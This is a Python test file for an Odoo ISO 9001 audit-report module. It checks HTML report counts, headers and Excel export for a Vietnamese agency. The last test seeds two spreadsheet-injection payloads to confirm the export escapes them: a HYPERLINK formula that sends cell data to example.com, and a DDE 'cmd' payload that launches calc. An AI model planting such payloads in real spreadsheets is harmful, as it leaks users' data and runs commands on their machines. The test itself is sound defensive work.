import base64
import io

import openpyxl
from lxml import html

from odoo.tests import tagged

from .common import AuditCommon


@tagged("post_install", "-at_install")
class TestAuditReport(AuditCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env.company.qms_governing_body = "UBND tỉnh Quảng Trị"
        cls.audit = cls._create_audit(summary="<p>Hệ thống được duy trì.</p>")
        cls._add_schedule(cls.audit)
        cls.audit.checklist_template_ids = cls._create_template(
            "Kiểm soát tài liệu",
            [
                (cls.clause["7.5.3"], "Tài liệu sử dụng có phải bản hiện hành?"),
                (cls.clause["8.5.1"], "Hồ sơ được giải quyết đúng hạn?"),
            ],
        )
        cls.audit.action_load_checklist()
        cls.audit.state = "in_progress"
        lines = cls.audit.checklist_line_ids
        unit_lines = lines.filtered(lambda line: line.department_id == cls.department_unit)
        legal_lines = lines - unit_lines
        unit_lines[0].result = "major"
        unit_lines[1].result = "minor"
        legal_lines[0].result = "conform"
        legal_lines[1].result = "minor"
        for line in lines.filtered(lambda line: line.result != "conform"):
            line.action_create_finding()

    def test_general_report_counts(self):
        content, _type = self.env["ir.actions.report"]._render_qweb_html(
            "qms_iso9001_audit.action_report_qms_audit_general", self.audit.ids
        )
        tree = html.fromstring(content)
        counts = {
            row.get("data-result"): row.xpath("string(td[@class='text-end qms_finding_count'])")
            for row in tree.xpath(
                "//table[contains(@class, 'o_qms_audit_counts')]//tr[@data-result]"
            )
        }
        self.assertEqual(counts["minor"], "2")
        self.assertEqual(counts["major"], "1")
        self.assertEqual(counts["conform"], "0")
        units = {
            row.xpath("string(td[1])"): [cell.text_content() for cell in row.xpath("td")[1:]]
            for row in tree.xpath("//table[contains(@class, 'o_qms_audit_unit_counts')]/tbody/tr")
        }
        # Columns: conform, minor, major, observation, improvement.
        self.assertEqual(units[self.department_unit.name], ["0", "1", "1", "0", "0"])
        self.assertEqual(units[self.department_legal.name], ["0", "1", "0", "0", "0"])
        text = tree.text_content()
        self.assertIn("Hệ thống được duy trì.", text)
        # NĐ 30/2020 header: the governing body above the agency, as on every printed document
        governing = tree.xpath("string(//*[contains(@class, 'o_qms_governing_body')])")
        issuing = tree.xpath("string(//*[contains(@class, 'o_qms_issuing_body')])")
        self.assertEqual(governing, "UBND tỉnh Quảng Trị")
        self.assertEqual(
            issuing, self.audit.company_id.qms_agency_name or self.audit.company_id.name
        )
        self.assertIn(self.lead_auditor.name, text)

    def test_unit_report_has_one_part_per_unit(self):
        content, _type = self.env["ir.actions.report"]._render_qweb_html(
            "qms_iso9001_audit.action_report_qms_audit_unit", self.audit.ids
        )
        tree = html.fromstring(content)
        self.assertEqual(len(tree.xpath("//table[contains(@class, 'o_qms_audit_counts')]")), 2)
        text = tree.text_content()
        self.assertIn(self.department_legal.name, text)
        self.assertIn("Hồ sơ được giải quyết đúng hạn?", text)
        for finding in self.audit.finding_ids:
            self.assertIn(finding.name, text)

    def test_excel_report_reads_back(self):
        action = self.audit.action_export_xlsx()
        attachment_id = int(action["url"].split("/web/content/")[1].split("?")[0])
        attachment = self.env["ir.attachment"].browse(attachment_id)
        workbook = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        self.assertEqual(len(workbook.sheetnames), 3)
        summary = workbook[workbook.sheetnames[0]]
        rows = [tuple(cell.value for cell in row) for row in summary.iter_rows()]
        by_label = {row[0]: row[1:] for row in rows if row[0]}
        self.assertEqual(by_label["Minor NC"][:2], (2, 2))
        self.assertEqual(by_label["Major NC"][:2], (1, 1))
        self.assertEqual(by_label["Conform"][:2], (1, 0))
        self.assertEqual(by_label[self.department_unit.name][:3], (0, 1, 1))
        findings = workbook[workbook.sheetnames[1]]
        finding_rows = list(findings.iter_rows(min_row=2, values_only=True))
        self.assertEqual(len(finding_rows), 3)
        self.assertEqual(
            sorted(row[0] for row in finding_rows), sorted(self.audit.finding_ids.mapped("name"))
        )
        checklist = workbook[workbook.sheetnames[2]]
        self.assertEqual(len(list(checklist.iter_rows(min_row=2, values_only=True))), 4)

    def test_excel_never_evaluates_text_as_formula(self):
        """A finding or a question typed as a formula is exported as the text typed."""
        formula = '=HYPERLINK("http://example.com/x?"&A1,"Bấm vào đây")'
        finding = self.audit.finding_ids[:1]
        finding.with_user(self.auditor2_user).write({"description": formula})
        line = self.audit.checklist_line_ids[:1]
        line.with_user(self.auditor2_user).write({"evidence": "+cmd|' /C calc'!A0"})
        data = self.env["qms.audit.report.xlsx"]._qms_build(self.audit)
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        cells = [
            cell
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        self.assertIn(formula, texts)
        self.assertIn("+cmd|' /C calc'!A0", texts)
        # numbers stay numbers
        self.assertTrue([cell for cell in cells if cell.data_type == "n"])
